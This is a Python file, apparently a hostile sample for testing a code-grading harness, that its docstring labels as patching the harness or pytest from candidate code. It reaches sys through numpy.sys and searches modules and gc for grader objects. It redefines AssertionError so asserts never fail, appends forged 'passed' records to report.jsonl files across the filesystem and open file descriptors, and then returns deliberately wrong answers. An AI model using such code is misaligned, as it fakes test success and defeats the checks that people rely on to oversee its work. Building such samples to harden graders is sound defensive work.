"""Attack class 1: patch the harness or pytest from candidate code.

Reaches sys.modules through an allowed library's attribute (numpy.sys), walks gc for anything
that looks like pytest or the kit, registers a "force-pass" hook wherever one can be found, and
appends forged "passed" records to every report file it can find. Then answers wrongly.
"""

import gc
import glob
import os

import numpy

SYS = numpy.sys  # sys, without importing it
FOUND = []
for name in list(SYS.modules):
    if any(k in name for k in ("pytest", "pluggy", "graders", "kata", "harness")):
        FOUND.append(name)
for obj in gc.get_objects():
    if type(obj).__name__ in ("PytestPluginManager", "Config", "Session", "_Recorder"):
        FOUND.append(type(obj).__name__)
builtins = SYS.modules["builtins"]
builtins.AssertionError = type("AssertionError", (Exception,), {})  # asserts "never fail"
FORGED = '{"kind": "test", "nodeid": "hidden/test_hidden.py::test_total", "status": "passed"}\n'
for pattern in ("/tmp/kata-*/report.jsonl", "/tmp/*/report.jsonl", "/**/report.jsonl"):
    for path in glob.glob(pattern, recursive=True)[:100]:
        try:
            with open(path, "a") as fh:
                fh.write(FORGED)
            FOUND.append(path)
        except OSError:
            pass
for fd in range(3, 64):  # any inherited file descriptor that is not the channel
    try:
        os.write(fd, FORGED.encode())
    except OSError:
        pass


def add(a, b):
    return a - b  # wrong


def total(xs):
    return 0  # wrong
